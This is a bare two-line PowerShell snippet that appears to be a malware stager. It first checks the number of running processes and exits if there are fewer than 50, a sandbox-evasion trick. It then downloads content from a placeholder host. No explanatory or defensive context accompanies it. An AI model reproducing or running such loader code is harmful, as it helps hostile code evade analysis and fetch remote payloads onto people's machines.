if((Get-Process).Count -lt 50){exit}
iwr http://a.example/1